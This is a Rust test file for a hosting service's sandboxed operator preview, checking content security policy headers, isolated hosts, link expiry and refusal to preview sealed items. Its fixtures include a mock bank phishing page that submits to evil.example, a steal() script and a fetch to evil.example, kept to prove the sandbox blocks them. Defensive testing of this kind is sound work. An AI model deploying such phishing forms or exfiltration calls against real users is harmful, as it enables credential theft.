//! `…/look/…`: the safe preview of hostile content, in a frame that runs and sends nothing, for operators only.

use crate::harness::{Form, Node, Person, Setup, noise, on_each_database, page, pdf, zip};
use serde_json::Value;

const HOSTILE: &str = "<!doctype html><html><head><title>Your bank</title>\
    <link rel=preconnect href=https://evil.example><link rel=stylesheet href=style.css></head>\
    <body><form action=https://evil.example/take.html><input name=x></form><script>steal()</script></body></html>";

fn id(site: &Value) -> &str {
    site["id"].as_str().unwrap()
}

/// The operator's page about a page, and the address of its frame.
async fn look(operator: &Person<'_>, site: &Value) -> (String, Option<String>) {
    let html = operator.get(&format!("/operator/pages/{}", id(site))).await.expect(200).text();
    let frame = html.split_once("<iframe").map(|(_, rest)| {
        let tag = rest.split('>').next().unwrap().to_owned();
        assert!(tag.contains(" sandbox title="), "without a single permission: {tag}");
        tag.split_once("src=\"").unwrap().1.split('"').next().unwrap().to_owned()
    });
    (html, frame)
}

#[tokio::test]
async fn look_passes_gates_on_a_host_of_its_own_and_counts_nothing() {
    on_each_database(Setup::new, async |node| {
        let operator = node.operator().await;
        let form = Form::file("index.html", HOSTILE).field("password", "correct horse");
        let site = node.publish(form).await;
        let (html, frame) = look(&operator, &site).await;
        let frame = frame.unwrap();
        let within = frame.split_inclusive('/').take(5).collect::<String>();
        assert!(frame.starts_with("http://s-") && frame.contains("/look/") && frame == within, "{frame}");
        let shown = operator.get(&format!("/operator/pages/{}", id(&site))).await;
        assert!(shown.header("content-security-policy").starts_with("frame-src http://s-"));
        assert!(html.contains("&#60;script&#62;steal()&#60;/script&#62;"), "the source is text: {html}");
        assert!(html.contains("https://evil.example/take.html"));

        let seen = node.get(&frame).send().await.expect(200);
        assert_eq!(seen.header("content-type"), "text/html; charset=utf-8");
        let policy = seen.header("content-security-policy");
        let base = node.base_url();
        for part in [
            "sandbox; default-src 'none';",
            &format!("style-src {within} 'unsafe-inline';"),
            &format!("img-src {within} data:;"),
            "form-action 'none'",
            &format!("frame-ancestors {base}"),
        ] {
            assert!(policy.contains(part), "{part}: {policy}");
        }
        assert!(!policy.contains("allow-") && !policy.contains("script-src"));
        assert_eq!(seen.header("cache-control"), "no-store");
        assert!(
            seen.text().contains("<x-link rel=preconnect") && seen.text().contains("<link rel=stylesheet")
        );
        node.app().flush_views().await.unwrap();
        assert_eq!(node.read_site(&site).await["view_count"], 0);
    })
    .await;
}

#[tokio::test]
async fn look_ends_soon_and_cannot_be_made_up() {
    let node = Node::start().await;
    let operator = node.operator().await;
    let (one, two) = (node.publish_page("One").await, node.publish_page("Two").await);
    let (_, first) = look(&operator, &one).await;
    let (_, second) = look(&operator, &two).await;
    let (first, second) = (first.unwrap(), second.unwrap());
    let word = |url: &str| url.split_once("/look/").unwrap().1.to_owned();
    let host = |url: &str| url.split_once("/look/").unwrap().0.to_owned();
    node.get(&first).send().await.expect(200);
    node.get(&format!("{}/look/{}", host(&second), word(&first))).send().await.expect(404);
    node.get(&format!("{}/look/{}", node.base_url(), word(&first))).send().await.expect(404);
    node.get(&first.replacen("/look/A", "/look/B", 1).replacen("/look/", "/look/x", 1))
        .send()
        .await
        .expect(404);
    for nothing in ["/look/", "/look/x", "/look/x/", "/look/%ff/"] {
        node.get(&format!("{}{nothing}", host(&first))).send().await.expect(404);
    }
    node.get(&first).header("sec-fetch-dest", "document").send().await.expect(404);
    node.get(&first).header("sec-fetch-dest", "iframe").send().await.expect(200);
    node.post(&first).send().await.expect(405);
    node.get(&first).header("service-worker", "script").send().await.expect(403);
    node.delete(&format!("/sites/{}?purge=true", id(&two))).key(&node.key).send().await.expect(200);
    node.get(&second).send().await.expect(404);
    node.clock.advance(900);
    node.get(&first).send().await.expect(404);
}

#[tokio::test]
async fn files_of_an_archive_are_looked_at_one_by_one() {
    let node = Node::start().await;
    let operator = node.operator().await;
    let site = zip(&[
        ("index.html", HOSTILE),
        ("style.css", "h1 { color: red }"),
        ("app.js", "fetch('https://evil.example')"),
        ("sub/next.html", "<title>Next</title><input type=password placeholder='Your secret'>"),
        ("plain.svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>"),
        ("odd.svg", "<!DOCTYPE svg [<!ENTITY x 'y'>]><svg xmlns='http://www.w3.org/2000/svg'/>"),
    ]);
    let site = node.publish(Form::file("a.zip", site)).await;
    let (html, frame) = look(&operator, &site).await;
    let frame = frame.unwrap();
    assert!(html.contains("6 files") && html.contains("?file=sub%2Fnext.html"));
    for (path, kind) in [
        ("style.css", "text/css; charset=utf-8"),
        ("app.js", "text/plain; charset=utf-8"),
        ("plain.svg", "image/svg+xml; charset=utf-8"),
        ("odd.svg", "text/plain; charset=utf-8"),
        ("sub/next.html", "text/html; charset=utf-8"),
    ] {
        let seen = node.get(&format!("{frame}{path}")).send().await.expect(200);
        assert_eq!(seen.header("content-type"), kind, "{path}");
        assert!(seen.header("content-security-policy").starts_with("sandbox; default-src 'none'"), "{path}");
    }
    node.get(&format!("{frame}none.html")).send().await.expect(404);
    let next = format!("/operator/pages/{}?file=sub%2Fnext.html", id(&site));
    let html = operator.get(&next).await.expect(200).text();
    assert!(html.contains("/sub/next.html\" sandbox") && html.contains("Your secret"), "{html}");
    let script = format!("/operator/pages/{}?file=app.js", id(&site));
    let html = operator.get(&script).await.expect(200).text();
    assert!(!html.contains("<iframe") && html.contains("fetch(&#39;https://evil.example&#39;)"));
}

#[tokio::test]
async fn where_pages_share_an_address_the_look_does_too_within_its_path() {
    let node = Setup::new().set("isolation", "sandbox").start().await;
    let operator = node.operator().await;
    let site = node.publish_page("One").await;
    let (_, frame) = look(&operator, &site).await;
    let frame = frame.unwrap();
    assert!(frame.starts_with(&format!("{}/look/", node.base_url())), "{frame}");
    let seen = node.get(&frame).cookie(&operator.cookie()).send().await.expect(200);
    let policy = seen.header("content-security-policy");
    assert!(
        policy.starts_with("sandbox; ") && policy.contains(&format!("img-src {frame} data:")),
        "{policy}"
    );
}

#[tokio::test]
async fn what_nobody_may_see_is_not_shown_to_operators_either() {
    let node = Node::start().await;
    let operator = node.operator().await;
    let burn = Form::file("a.html", page("Secret words")).field("burn_after_read", "true");
    let burn = node.publish(burn).await;
    let (html, frame) = look(&operator, &burn).await;
    assert!(frame.is_none() && html.contains("viewed only once") && !html.contains("&#60;h1&#62;Secret"));
    let sealed = Form::file("x", noise("sealed", 100)).field("e2e", "true");
    let sealed = node.publish(sealed).await;
    let (html, frame) = look(&operator, &sealed).await;
    assert!(frame.is_none() && html.contains("cannot be previewed"), "{html}");
    let document = node.publish(Form::file("a.pdf", pdf())).await;
    let (html, frame) = look(&operator, &document).await;
    assert!(frame.is_none() && html.contains("A PDF cannot be previewed"));
}
